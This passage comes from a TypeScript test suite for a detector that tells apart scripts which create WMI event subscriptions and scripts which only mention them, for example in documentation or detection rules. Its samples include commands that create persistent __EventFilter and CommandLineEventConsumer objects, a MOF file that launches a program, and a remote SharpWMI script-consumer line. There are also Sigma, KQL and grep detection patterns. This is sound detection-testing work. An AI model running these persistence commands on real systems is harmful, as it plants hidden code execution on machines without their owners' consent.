    ['python detect.py "Set-WmiInstance -Class __EventFilter -Namespace root\\subscription"', 'commandLine'],
    ['git commit -m "hunt: New-CimInstance -ClassName __EventFilter"', 'commandLine'],
    [
      "# Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments @{Name='x'}\nWrite-Host ok",
      'powershell',
    ],
    [
      '<#\n.EXAMPLE\nNew-CimInstance -ClassName __EventFilter -Namespace root/subscription\n#>\nGet-Date',
      'powershell',
    ],
    [
      "$rule = @'\ntitle: WMI\ndetection:\n  selection:\n    CommandLine|contains: 'Set-WmiInstance -Class __EventFilter'\nfalsepositives: none\n'@\nSet-Content rule.yml $rule",
      'powershell',
    ],
    [
      "$kql = \"DeviceProcessEvents | where ProcessCommandLine has_any ('__EventFilter', 'CommandLineEventConsumer', 'CREATE')\"",
      'powershell',
    ],
    ["Write-Host 'To create one: Set-WmiInstance -Class __EventFilter ... then $f.Put()'", 'powershell'],
    ['\' svc.Get("__EventFilter").SpawnInstance_\nWScript.Echo "CommandLineEventConsumer"', 'script'],
    [
      "Select-String -Path *.log -Pattern '__EventFilter|CommandLineEventConsumer|CreateInstance'",
      'powershell',
    ],
  ])('documentation and detection content only mention: %s', (text, kind) => {
    expect(one(text, kind)).toMatchObject({ verb: 'mentions', signal: 'documentation' })
  })
})

describe('hostile text', () => {
  const SAMPLES = [
    'Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name=\'F\'; Query="x$y"} | % { $_.Put() }',
    'wmic /namespace:\\\\root\\subscription path __EventFilter create Name="F",Query="a"',
    'Set f = GetObject("winmgmts:root\\subscription:__EventFilter").SpawnInstance_\nf.Name = "a" & Chr(66)\nf.Put_',
    'CommandInvocation(Set-WmiInstance): "Set-WmiInstance"\nParameterBinding(Set-WmiInstance): name="Class"; value="__EventFilter"',
  ]
  const KINDS: readonly AuthoringKind[] = ['commandLine', 'powershell', 'script', 'pipeline']

  test('any mutation of any text gives readings', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...SAMPLES),
        fc.constantFrom(...KINDS),
        fc.nat(120),
        fc.nat(120),
        fc.string({ maxLength: 8 }),
        (sample, kind, from, to, insert) => {
          readAuthoring(sample.slice(0, Math.min(from, to)) + insert + sample.slice(Math.max(from, to)), kind)
        },
      ),
      { numRuns: 400 },
    )
  })

  test('nesting and repetition take bounded time', () => {
    for (const unit of [
      '(',
      '@{a=',
      '{',
      '$(',
      '"$(',
      'powershell -c "',
      'cmd /c ',
      'iex "',
      '[char]1+',
      "'a'+",
      '`',
      '^',
      'wmic path __EventFilter create ',
      '$x.',
      '@"\n',
      'function f {',
      '-f ',
      '""',
      '&',
      ',',
      'name="',
      'ParameterBinding(x): name="a"; value="',
    ])
      for (const kind of KINDS) readAuthoring(`__EventFilter wmic ${unit.repeat(12_000 / unit.length)}`, kind)
  }, 60_000)
})

test('a script that puts MOF text into a MOF file prepares a subscription, one that saves a rule or a note does not', () => {
  const mof =
    '#pragma namespace("\\\\\\\\.\\\\root\\\\subscription")\ninstance of CommandLineEventConsumer { Name="A"; CommandLineTemplate="calc"; };'
  const write = (file: string, text: string) =>
    readAuthoring(`@'\n${text}\n'@ | Out-File ${file}`, 'powershell')
  expect(write('C:\\ProgramData\\a.mof', mof)).toMatchObject([
    {
      verb: 'creates',
      tool: 'powershell',
      objects: { consumer: { name: 'A', class: 'CommandLineEventConsumer' } },
    },
  ])
  expect(write('C:\\notes\\a.txt', mof).map(({ verb }) => verb)).toEqual(['mentions'])
  expect(write('C:\\rules\\a.mof', 'detection: CommandLineEventConsumer').map(({ verb }) => verb)).toEqual([
    'mentions',
  ])
})

test("SharpWMI's executevbs makes a script consumer on the machine it names; its other actions make none", () => {
  const line = (args: string) => readAuthoring(`C:\\Users\\eve\\SharpWMI.exe ${args}`, 'commandLine')
  expect(
    line('action=executevbs computername=SRV1 eventname=Deb trigger="SELECT * FROM Win32_ProcessStartTrace"'),
  ).toMatchObject([
    {
      verb: 'creates',
      remoteHost: 'SRV1',
      objects: {
        filter: { name: 'Deb', query: 'SELECT * FROM Win32_ProcessStartTrace' },
        consumer: { name: 'Deb', class: 'ActiveScriptEventConsumer' },
      },
    },
  ])
  expect(line('action=query computername=SRV1 query="select * from win32_service"')).toEqual([])
})
